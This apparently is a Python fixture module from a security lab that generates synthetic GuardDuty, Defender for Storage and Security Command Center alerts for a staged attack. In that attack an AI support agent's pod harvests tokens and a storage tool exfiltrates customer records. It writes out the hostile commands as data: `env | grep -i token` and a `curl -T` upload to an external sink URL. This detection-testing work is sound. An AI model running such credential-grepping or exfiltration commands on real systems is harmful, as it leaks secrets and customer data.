"""The three providers' findings of the lab's reference attack, each as its provider
writes it and each low severity on its own: GuardDuty sees a shell on the EKS node,
Defender for Storage an unusual read of `crmexports` by a managed identity, Security
Command Center curl copying a file out of a GKE pod. Field for field as
tests/data/reference-attack/provider-alerts/ (whose README names the real samples), with
the lab's names, addresses and times. Ids derive from the inputs. Pure."""
from __future__ import annotations

import hashlib
import uuid
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone

from weft.lab import metadata, topology
from weft.lab.demo import cast

AGENT = ("eks", "agents", "support-bot", "support-bot")          # cluster, namespace, workload, service account
STORAGE_TOOL = ("gke", "tools", "storage-mcp", "storage-mcp")
AWS_ACCOUNT = "111122223333"                                     # the account of data/'s IRSA role
AZURE_TENANT = "72f988bf-86f1-41af-91ab-2d7cd011db47"            # the tenant, subscription, resource group,
AZURE_SUBSCRIPTION = "00000000-1111-2222-3333-444444444444"      # managed identity and object id of data/'s
AZURE_RESOURCE_GROUP = "support-data"                            # role assignment and Entra sign-ins
MANAGED_IDENTITY, MANAGED_IDENTITY_OBJECT_ID = "support-bot-data", "6c8e0a2b-3d5f-4a7b-9c1d-2e4f6a8b0c1d"
STORAGE_ACCOUNT, BLOB_CONTAINER = "crmexports", "customers"
GCP_PROJECT, GCP_PROJECT_NUMBER = "support-gcp", "987654321098"   # data/'s project
GCP_ORGANIZATION = "418306275091"
CTD_SOURCE = f"organizations/{GCP_ORGANIZATION}/sources/11478521458753925694"   # Container Threat Detection
_IDS = uuid.UUID("5b0e1f0c-3a47-4d6e-9c1d-7f2a8b3c4d5e")          # namespace of the uuid5s below
_DOTNET_MAX_TICKS = 3155378975999999999                           # DateTime.MaxValue.Ticks


@dataclass(frozen=True)
class Attack:
    """When each step the providers see ran, and the exfiltrating curl's argv and pid."""
    shell: datetime          # the agent ran sh -c "env | grep -i token"
    read_started: datetime   # crmexports served the customer records ...
    read_ended: datetime     # ... until
    upload: datetime         # storage-mcp ran curl -T to the sink
    curl_args: tuple[str, ...]
    curl_pid: int            # SCC reports it; detect keeps no process without one

    @classmethod
    def during(cls, start: datetime, end: datetime, curl_pid: int = 0) -> Attack:
        """The steps in their order inside one run of the agent, when only its bounds are
        known; curl's argv as storage_mcp runs it, its temporary file's name made up, and
        its pid too unless given (the sensor's exec event of curl has the real one)."""
        at = [start + (end - start) * k / 5 for k in range(1, 5)]
        seed = _hex("upload", _ms(start))
        args = ("curl", "-sS", "-v", "--max-time", "10", "-T", f"/tmp/tmp{seed[:8]}.json", cast.SINK_URL)
        return cls(*at, args, curl_pid or 30000 + int(seed[8:12], 16) % 30000)


def guardduty_finding(attack: Attack, reported: datetime) -> dict:
    """`Execution:Runtime/SuspiciousCommand` on EKS cluster eks (GetFindings shape)."""
    cluster, pod = topology.cluster(AGENT[0]), metadata.entry(*AGENT)
    region, node_ip = cluster.region, cluster.address
    detector = _hex("guardduty detector", AWS_ACCOUNT, region)
    finding = _hex("guardduty finding", cluster.name, pod["pod"], _ms(attack.shell))
    vpc, subnet = f"vpc-{_hex('vpc', cluster.name)[:17]}", f"subnet-{_hex('subnet', cluster.name)[:17]}"
    return {
        "schemaVersion": "2.0", "accountId": AWS_ACCOUNT, "region": region, "partition": "aws", "id": finding,
        "arn": f"arn:aws:guardduty:{region}:{AWS_ACCOUNT}:detector/{detector}/finding/{finding}",
        "type": "Execution:Runtime/SuspiciousCommand",
        "resource": {
            "resourceType": "EKSCluster",
            "eksClusterDetails": {"name": cluster.name, "vpcId": vpc, "status": "ACTIVE", "tags": [],
                                  "arn": f"arn:aws:eks:{region}:{AWS_ACCOUNT}:cluster/{cluster.name}"},
            "kubernetesDetails": {"kubernetesWorkloadDetails": {
                "name": pod["pod"], "type": "pods", "uid": _uuid("pod", cluster.name, pod["pod"]),
                "namespace": pod["namespace"], "serviceAccountName": pod["serviceAccount"], "hostNetwork": False,
                "containers": [{"containerRuntime": "containerd", "id": pod["containerId"], "name": pod["container"],
                                "image": pod["image"]}]}},
            "instanceDetails": {
                "instanceId": f"i-{_hex('instance', cluster.node)[:17]}",
                "networkInterfaces": [{"networkInterfaceId": f"eni-{_hex('eni', cluster.node)[:17]}",
                                       "privateDnsName": f"ip-{node_ip.replace('.', '-')}.ec2.internal",
                                       "privateIpAddress": node_ip, "subnetId": subnet, "vpcId": vpc}],
                "tags": [{"key": "eks:cluster-name", "value": cluster.name}]},
        },
        "service": {
            "serviceName": "guardduty", "featureName": "RuntimeMonitoring", "detectorId": detector, "action": {},
            "resourceRole": "TARGET",
            "runtimeDetails": {
                "process": {"name": "sh", "executablePath": "/bin/sh", "startTime": _ms(attack.shell),
                            "uuid": _uuid("process", finding), "parentUuid": _uuid("parent", finding),
                            "lineage": [{"name": "python3", "uuid": _uuid("parent", finding)}]},
                "context": {"commandLineExample": "sh -c env | grep -i token", "toolCategory": "Suspicious Command"}},
            "eventFirstSeen": _ms(attack.shell), "eventLastSeen": _ms(attack.shell),
            "archived": False, "count": 1, "additionalInfo": {"value": "{}", "type": "default"},
        },
        "severity": 2, "createdAt": _ms(reported), "updatedAt": _ms(reported),
        "title": f"A suspicious command was executed in container {pod['container']} of pod {pod['pod']}.",
        "description": f"A suspicious command was executed inside a container in EKS cluster {cluster.name}.",
    }


def defender_alert(attack: Attack, reported: datetime) -> dict:
    """`Storage.Blob_DataExfiltration.AmountOfDataAnomaly` on crmexports (continuous export's SecurityAlert).
    Defender for Storage knows the account, the principal and the caller's address, not the pod."""
    account = (f"/subscriptions/{AZURE_SUBSCRIPTION}/resourceGroups/{AZURE_RESOURCE_GROUP}"
               f"/providers/Microsoft.Storage/storageAccounts/{STORAGE_ACCOUNT}")
    # Defender's alert ids lead with DateTime.MaxValue.Ticks minus the start's ticks (newest sorts first)
    ticks = (_utc(attack.read_started) - datetime(1, 1, 1, tzinfo=timezone.utc)) // timedelta(microseconds=1) * 10
    alert_id = f"{_DOTNET_MAX_TICKS - ticks}_{_uuid('defender alert', account, _ticks7(attack.read_started))}"
    return {
        "VendorName": "Microsoft", "AlertType": "Storage.Blob_DataExfiltration.AmountOfDataAnomaly",
        "ProductName": "Microsoft Defender for Cloud", "ProductComponentName": "Storage",
        "StartTimeUtc": _ticks7(attack.read_started), "EndTimeUtc": _ticks7(attack.read_ended),
        "TimeGenerated": _ticks7(reported), "ProcessingEndTime": _ticks7(reported),
        "Severity": "Low", "Status": "New", "IsIncident": False,
        "SystemAlertId": alert_id, "Intent": "Exfiltration", "AzureResourceId": account,
        "WorkspaceSubscriptionId": AZURE_SUBSCRIPTION, "CompromisedEntity": STORAGE_ACCOUNT,
        "AlertDisplayName": "Unusual amount of data extracted from a storage account",
        "Description": (f"Someone has extracted an unusual amount of data from your Azure Storage account "
                        f"'{STORAGE_ACCOUNT}' (container '{BLOB_CONTAINER}')."),
        "RemediationSteps": [
            "Limit access to your storage account, following the 'least privilege' principle.",
            "Revoke all storage access tokens that may be compromised and ensure that your access tokens are only "
            "shared with authorized users."],
        "ResourceIdentifiers": [{"$id": "1", "AzureResourceId": account, "Type": "AzureResource",
                                 "AzureResourceTenantId": AZURE_TENANT}],
        "Entities": [
            {"$id": "2", "ResourceId": account, "Asset": True, "Type": "azure-resource"},
            {"$id": "3", "Name": BLOB_CONTAINER, "StorageResource": {"$ref": "2"}, "Asset": False,
             "Type": "blob-container"},
            {"$id": "4", "Name": MANAGED_IDENTITY, "AadTenantId": AZURE_TENANT,
             "AadUserId": MANAGED_IDENTITY_OBJECT_ID, "Asset": False, "Type": "account"},
            {"$id": "5", "Address": topology.cluster("aks").egress_ip, "Asset": False, "Type": "ip"},
        ],
    }


def scc_notification(attack: Attack, reported: datetime) -> dict:
    """`Exfiltration: Launch Remote File Copy Tools in Container` on GKE cluster gke (Pub/Sub notification)."""
    cluster, pod = topology.cluster(STORAGE_TOOL[0]), metadata.entry(*STORAGE_TOOL)
    resource = f"//container.googleapis.com/projects/{GCP_PROJECT}/locations/{cluster.region}/clusters/{cluster.name}"
    finding = _hex("scc finding", resource, pod["pod"], _ms(attack.upload))
    labels = [{"name": k, "value": v} for k, v in sorted(pod["labels"].items())]
    return {
        "notificationConfigName": f"organizations/{GCP_ORGANIZATION}/notificationConfigs/weft-threats",
        "finding": {
            "name": f"{CTD_SOURCE}/findings/{finding}",
            "canonicalName": f"projects/{GCP_PROJECT_NUMBER}/sources/{CTD_SOURCE.rsplit('/', 1)[1]}/findings/{finding}",
            "parent": CTD_SOURCE, "resourceName": resource, "state": "ACTIVE",
            "category": "Exfiltration: Launch Remote File Copy Tools in Container", "severity": "LOW",
            "findingClass": "THREAT", "eventTime": _ms(attack.upload), "createTime": _ms(reported),
            "mute": "UNDEFINED", "parentDisplayName": "Container Threat Detection",
            "description": "A remote file copy tool was executed in a container: data may be being copied out of "
                           "the cluster.",
            "processes": [{"name": "curl", "binary": {"path": "/usr/bin/curl"}, "args": list(attack.curl_args),
                           "pid": str(attack.curl_pid)}],
            "connections": [{"destinationIp": topology.OUTSIDE_ADDRESS, "destinationPort": cast.SINK_PORT,
                             "sourceIp": cluster.address, "protocol": "TCP"}],
            "containers": [{"name": pod["container"], "uri": pod["image"], "labels": labels}],
            "kubernetes": {"pods": [{"ns": pod["namespace"], "name": pod["pod"], "labels": labels,
                                     "containers": [{"name": pod["container"], "uri": pod["image"]}]}],
                           "nodes": [{"name": cluster.node}]},
            "mitreAttack": {"primaryTactic": "EXFILTRATION",
                            "primaryTechniques": ["EXFILTRATION_OVER_ALTERNATIVE_PROTOCOL"], "version": "15"},
        },
        "resource": {
            "name": resource, "displayName": cluster.name, "type": "google.container.Cluster",
            "cloudProvider": "GOOGLE_CLOUD_PLATFORM", "service": "container.googleapis.com",
            "location": cluster.region,
            "gcpMetadata": {"project": f"//cloudresourcemanager.googleapis.com/projects/{GCP_PROJECT_NUMBER}",
                            "projectDisplayName": GCP_PROJECT, "organization": f"organizations/{GCP_ORGANIZATION}"},
        },
    }


def _hex(*parts: str) -> str:
    return hashlib.sha256("\0".join(parts).encode()).hexdigest()[:32]


def _uuid(*parts: str) -> str:
    return str(uuid.uuid5(_IDS, "\0".join(parts)))


def _utc(t: datetime) -> datetime:
    return t.astimezone(timezone.utc)


def _ms(t: datetime) -> str:
    return _utc(t).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def _ticks7(t: datetime) -> str:
    return f"{_utc(t):%Y-%m-%dT%H:%M:%S.%f}0Z"
